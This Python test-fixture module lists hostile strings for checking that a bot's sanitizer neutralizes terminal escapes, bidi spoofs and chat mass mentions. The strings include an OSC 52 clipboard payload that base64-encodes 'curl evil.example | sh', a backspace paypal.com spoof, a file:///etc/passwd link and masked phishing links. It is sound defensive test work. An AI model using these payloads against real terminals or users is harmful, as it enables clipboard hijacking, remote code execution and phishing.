"""Hostile strings from feeds, servers and chat members, and what a reader must see of each.

`shown` is what must appear once the string is cleaned (before a platform's own escaping): escape
sequences, controls and bidi characters gone, markup and mentions kept as literal text.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import UTC, datetime, time, timedelta
from pathlib import Path

from sqlalchemy import update

from bot.models import AlertMode, Destination, Platform, Subscription, Topic
from bot.store import open_store
from bot.store.schema import sources as sources_table
from bot.store.sources import add_source, disable_source, record_poll_failure
from bot.store.subscriptions import upsert_subscription
from bot.store.topics import upsert_topic

T0 = datetime(2026, 3, 3, 5, 0, tzinfo=UTC)


@dataclass(frozen=True)
class Hostile:
    name: str
    raw: str
    shown: str

    def __str__(self) -> str:
        return self.name


HUGE = "A" * 1_000_000
HOSTILE = (
    Hostile("osc52_clipboard", "copy\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07me", "copyme"),
    Hostile("csi_clear_screen", "wipe\x1b[2J\x1b[3J\x1b[Hout", "wipeout"),
    Hostile("c1_csi", "c1\x9b2Jcsi", "c1csi"),
    Hostile("bell", "ring\x07bell", "ringbell"),
    Hostile("backspace_overwrite", "paypal.com" + "\x08" * 10 + "evil.example", "paypal.comevil.example"),
    Hostile("bidi_override", "invoice\u202efdp.exe", "invoicefdp.exe"),
    Hostile("bidi_isolate", "left\u2066right\u2069end", "leftrightend"),
    Hostile("markup_close", "close [/] tag", "close [/] tag"),
    Hostile("markup_style", "[bold red]x", "[bold red]x"),
    Hostile("markup_link", "[link=file:///etc/passwd]click[/link]", "[link=file:///etc/passwd]click[/link]"),
    Hostile("slack_channel", "<!channel> look", "<!channel> look"),
    Hostile("slack_here", "<!here>", "<!here>"),
    Hostile("slack_user", "<@U123>", "<@U123>"),
    Hostile("slack_link", "<https://evil.example|bank.com>", "<https://evil.example|bank.com>"),
    Hostile("discord_everyone", "@everyone", "@everyone"),
    Hostile("discord_here", "@here", "@here"),
    Hostile("discord_role", "<@&123>", "<@&123>"),
    Hostile("discord_masked_link", "[bank.com](https://evil.example)", "[bank.com](https://evil.example)"),
    Hostile("huge_title", HUGE, "A" * 100),
)

# What may never reach a terminal or a chat message: C0 controls but newline and tab, DEL, C1
# controls, bidi overrides, embeddings, isolates and marks, lone surrogates.
FORBIDDEN = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
# The only escape sequences rich itself writes to a colour terminal: SGR (colours and bold).
SGR = re.compile(r"\x1b\[[0-9;]*m")


def assert_inert(text: str, where: str) -> None:
    found = sorted(set(FORBIDDEN.findall(text)))
    assert not found, f"{where}: {found!r} reached the output"


async def store_hostile(database: Path, cases: tuple[Hostile, ...]) -> None:
    """Per case: a failing source titled with it, a source disabled with it as reason, a topic named
    with it that a channel takes as a digest, and a stale lease held by it (for `db check`)."""
    store = await open_store(f"sqlite+aiosqlite:///{database}")
    try:
        for n, case in enumerate(cases):
            failing = await add_source(store, f"https://failing{n}.example/feed", now=T0, title=case.raw)
            await record_poll_failure(store, failing.id, now=T0, error=f"HTTP 500 {case.raw}")
            disabled = await add_source(store, f"https://disabled{n}.example/feed", now=T0)
            await disable_source(store, disabled.id, now=T0, reason=case.raw)
            await upsert_topic(store, Topic(f"topic{n}", case.raw, "korea"), now=T0)
            channel = Destination(Platform.CONSOLE, "local", f"channel{n}")
            subscription = Subscription(channel, f"topic{n}", mode=AlertMode.DIGEST, digest_at=time(8))
            await upsert_subscription(store, subscription, now=T0)
            async with store.write() as conn:
                stale = {"lease_owner": case.raw, "lease_until": T0 - timedelta(days=30)}
                where = sources_table.c.id == failing.id
                await conn.execute(update(sources_table).where(where).values(stale))
    finally:
        await store.close()
